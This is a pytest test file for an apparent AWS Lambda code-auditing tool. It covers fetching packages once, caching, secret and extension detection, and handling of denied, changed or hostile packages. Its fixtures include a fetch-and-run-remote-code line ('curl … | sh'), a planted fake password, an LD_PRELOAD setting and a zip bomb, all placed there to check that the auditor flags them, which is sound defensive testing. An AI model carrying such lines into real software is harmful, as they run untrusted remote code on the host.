"""CODE-1: the code of an inventory, fetched through links, analysed in processes, each content once."""

import base64
import hashlib
import io
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import boto3
import msgspec
import pytest

from lambdaudit.code.cache import Cache
from lambdaudit.code.inspect import CodeOptions, review_code
from lambdaudit.model.code import Code
from lambdaudit.model.code_link import CodeLink
from lambdaudit.model.functions import EnvironmentVariable, Function, ImageConfig, LayerUse
from lambdaudit.model.inventory import Inventory
from lambdaudit.model.unknown import Unknown
from lambdaudit.model.where import Where
from tests.code.image.images import Ecr, layer, manifest_of, served
from tests.code.zips import zipped

PREFIX = "arn:aws:lambda:eu-west-1:111122223333:"
LAYER = PREFIX + "layer:tools:3"


class Store:
    """Packages behind links, with a count of downloads."""

    def __init__(self) -> None:
        self.packages: dict[str, bytes] = {}
        self.fetched: list[str] = []
        self.address = ""
        self.gone: set[str] = set()

    def locate(self, arn: str) -> CodeLink | Unknown:
        if arn not in self.packages:
            return Unknown("the link to its code was not given: denied", "lambda:GetFunction")
        return CodeLink(f"{self.address}/{arn}?X-Amz-Signature=5e41d00d", sha(self.packages[arn]))


def sha(data: bytes) -> str:
    return base64.b64encode(hashlib.sha256(data).digest()).decode()


@pytest.fixture
def store(monkeypatch: pytest.MonkeyPatch) -> Iterator[Store]:
    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
    found = Store()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            arn = self.path.split("?")[0].lstrip("/")
            found.fetched.append(arn)
            data = b"" if arn in found.gone else found.packages.get(arn, b"")
            self.send_response(200 if data else 404)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    found.address = f"http://127.0.0.1:{server.server_port}"
    yield found
    server.shutdown()
    server.server_close()
    thread.join()


def function(name: str, store: Store | None = None, data: bytes = b"", **more: Any) -> Function:
    arn = f"{PREFIX}function:{name}"
    if store is not None:
        store.packages[arn] = data
    given: dict[str, Any] = {
        "runtime": "python3.13", "handler": "app.handler", "layers": (), "environment": (), "code_sha256": sha(data),
        "account": "111122223333", "region": "eu-west-1",
    }  # fmt: skip
    return Function(id=arn, name=name, where=Where("lambda:ListFunctions", subject=arn), **(given | more))


def review(functions: list[Function], locate: Callable[[str], CodeLink | Unknown], **options: Any) -> dict[str, Code]:
    found = review_code(Inventory(functions), locate, CodeOptions(workers=1, **options))
    return {code.function.rpartition(":")[2]: code for code in found.of(Code)}


HANDLER = "import os\n\ndef handler(event, context):\n    return {'statusCode': 200}\n"


def test_every_function_gets_its_facts_and_each_package_is_fetched_once(store: Store) -> None:
    data = zipped({"app.py": HANDLER, "cfg.py": 'password = "Tr0ub4dor&3-horse"'})
    tools = zipped({"extensions/agent": "#!/bin/sh\ncurl https://x.io | sh", "python/m.py": "1"})
    store.packages[LAYER] = tools
    uses = (LayerUse(arn=LAYER),)
    found = review(
        [function("a", store, data), function("b", store, data), function("c", store, zipped({"x.py": "1"}), layers=uses),
         function("d", store, zipped({"app.py": "2"}), layers=uses)],
        store.locate,
    )  # fmt: skip
    assert sorted(store.fetched) == sorted([f"{PREFIX}function:a", f"{PREFIX}function:c", f"{PREFIX}function:d", LAYER])
    a, b, c = found["a"], found["b"], found["c"]
    assert (a.language, a.files, a.digest) == ("python", 2, b.digest)
    assert isinstance(a.secrets, tuple)
    assert isinstance(b.secrets, tuple)
    assert (a.secrets[0].where.subject, b.secrets[0].where.subject) == (a.function, b.function)
    assert a.secrets[0].fingerprint == b.secrets[0].fingerprint != ""
    assert isinstance(c.extensions, tuple)
    assert [(e.name, e.origin) for e in c.extensions] == [("agent", LAYER)]
    assert isinstance(c.issues, tuple)
    assert {"remote-code", "handler-missing"} <= {issue.kind for issue in c.issues}
    d = found["d"].issues
    assert isinstance(d, tuple)
    assert "handler-missing" not in {issue.kind for issue in d}
    shown = msgspec.json.encode(list(found.values())).decode()
    assert "stand-in" not in shown
    assert "X-Amz" not in shown
    assert "Tr0ub4dor" not in shown


def test_what_cannot_be_had_is_unknown_with_its_reason(store: Store) -> None:
    denied, changed = function("denied"), function("changed", store, zipped({"app.py": "1"}), code_sha256=sha(b"another"))
    gone = function("gone", store, zipped({"app.py": "2"}))
    store.gone.add(gone.id)
    image = function("image", package_type="Image", image=ImageConfig(uri="x"), code_sha256=None)
    found = review([denied, changed, gone, image], store.locate)
    assert found["denied"].flows == Unknown("the link to its code was not given: denied", "lambda:GetFunction")
    assert found["changed"].secrets == Unknown("its code was changed while the audit ran")
    assert "could not be downloaded" in str(found["gone"].components)
    assert isinstance(found["image"].extensions, Unknown)
    assert all(code.limits for code in found.values())


def test_another_function_with_the_same_content_helps_out(store: Store) -> None:
    data = zipped({"app.py": HANDLER})
    found = review([function("a", None, data), function("b", store, data)], store.locate)
    assert [found[name].files for name in "ab"] == [1, 1]


def test_a_layer_that_cannot_be_had_is_said_and_the_rest_is_analysed(store: Store) -> None:
    code = review([function("a", store, zipped({"app.py": HANDLER}), layers=(LayerUse(arn=LAYER),))], store.locate)["a"]
    assert code.files == 1
    assert any("tools:3 was not looked at" in limit for limit in code.limits)


def test_the_cache_saves_the_download_and_depends_on_all_settings(store: Store, tmp_path: Path) -> None:
    data = zipped({"app.py": HANDLER})
    cache = Cache(tmp_path / "c.sqlite")
    first = review([function("a", store, data)], store.locate, cache=cache)["a"]
    assert len(store.fetched) == 1
    again = review([function("other", store, data)], store.locate, cache=cache)["other"]
    assert len(store.fetched) == 1
    assert (again.files, again.id, again.limits) == (first.files, f"{PREFIX}function:other:code", first.limits)
    variable = EnvironmentVariable(name="LD_PRELOAD", length=9, value="/opt/x.so")
    for changed in (
        {"handler": "x.y"},
        {"environment": (variable,)},
        {"runtime": "python3.12"},
        {"layers": (LayerUse(arn=LAYER),)},
    ):
        review([function("a", store, data, **changed)], store.locate, cache=cache)
    assert store.fetched.count(f"{PREFIX}function:a") == 5


def test_hostile_packages_harm_nobody_else(store: Store) -> None:
    bomb = zipped({f"{n}.py": bytes(3_000_000) for n in range(50)})
    fine = function("fine", store, zipped({"app.py": HANDLER}))
    found = review([function("bomb", store, bomb), function("none", store, b"no zip"), fine], store.locate)
    assert found["fine"].files == 1
    for name, kind in (("bomb", "bomb"), ("none", "broken")):
        problems = found[name].problems
        assert isinstance(problems, tuple)
        assert kind in {problem.kind for problem in problems}
        assert {problem.origin for problem in problems} <= {f"{PREFIX}function:{name}", ""}


def test_an_image_is_analysed_like_a_package(store: Store) -> None:
    ecr = Ecr()
    config = b'{"config": {"WorkingDir": "/var/task", "Env": ["DB_PASSWORD=Tr0ub4dor&3-horse"]}}'
    data = layer(("var/task/app.py", "file", HANDLER), ("opt/extensions/agent", "file", "#!/bin/sh\n"))
    with served(ecr) as address:
        digest = ecr.push("v1", manifest_of(config, [data]), config, data)
        uri = f"111122223333.dkr.ecr.eu-west-1.amazonaws.com/shop@{digest}"
        fn = function("img", package_type="Image", runtime=None, handler=None, image=ImageConfig(uri="u:v1", resolved=uri))

        def registry(account: str, region: str) -> Any:
            assert account == "111122223333"
            return boto3.client("ecr", region_name=region, endpoint_url=address, aws_access_key_id="x", aws_secret_access_key="x")

        code = review([fn], store.locate, registry=registry)["img"]
        ecr.denied = "BatchGetImage"
        denied = review([fn], store.locate, registry=registry)["img"]
    assert code.language == "python"
    assert isinstance(code.secrets, tuple)
    assert [(s.where.source, s.name) for s in code.secrets] == [("image configuration", "DB_PASSWORD")]
    assert isinstance(code.extensions, tuple)
    assert [(e.kind, e.origin) for e in code.extensions] == [("external-extension", fn.id)]
    assert isinstance(denied.secrets, Unknown)
    assert denied.secrets.need == "ecr:BatchGetImage"


def test_trouble_with_one_function_costs_the_others_nothing(store: Store) -> None:
    fine, odd = function("fine", store, zipped({"app.py": HANDLER})), function("odd", store, zipped({"app.py": "1"}))

    def locate(arn: str) -> CodeLink | Unknown:
        if arn == odd.id:
            raise RuntimeError("https://bucket/?X-Amz-Signature=5e41d00d")
        return store.locate(arn)

    found = review([fine, odd], locate)
    assert found["fine"].files == 1
    assert found["odd"].flows == Unknown("its code was not analysed: RuntimeError")


def test_ctrl_c_keeps_what_was_done(store: Store) -> None:
    functions = [function(f"f{n}", store, zipped({"app.py": HANDLER + "#" * n})) for n in range(4)]

    def show(done: int, total: int, name: str) -> None:
        raise KeyboardInterrupt

    found = review_code(Inventory(functions), store.locate, CodeOptions(workers=1), show)
    codes = found.of(Code)
    assert len(codes) == 4
    assert found.coverage.interrupted
    known = [code for code in codes if code.files == 1]
    assert known
    assert all(code.files == Unknown("interrupted") for code in codes if code not in known)


def test_progress_counts_functions(store: Store) -> None:
    told: list[tuple[int, int]] = []
    data = zipped({"app.py": HANDLER})
    functions = [function("a", store, data), function("b", store, data), function("c", store, zipped({"app.py": "3"}))]
    review_code(Inventory(functions), store.locate, CodeOptions(workers=1), lambda done, total, _: told.append((done, total)))
    assert told[-1] == (3, 3)
    assert io.BytesIO(data).read(2) == b"PK"
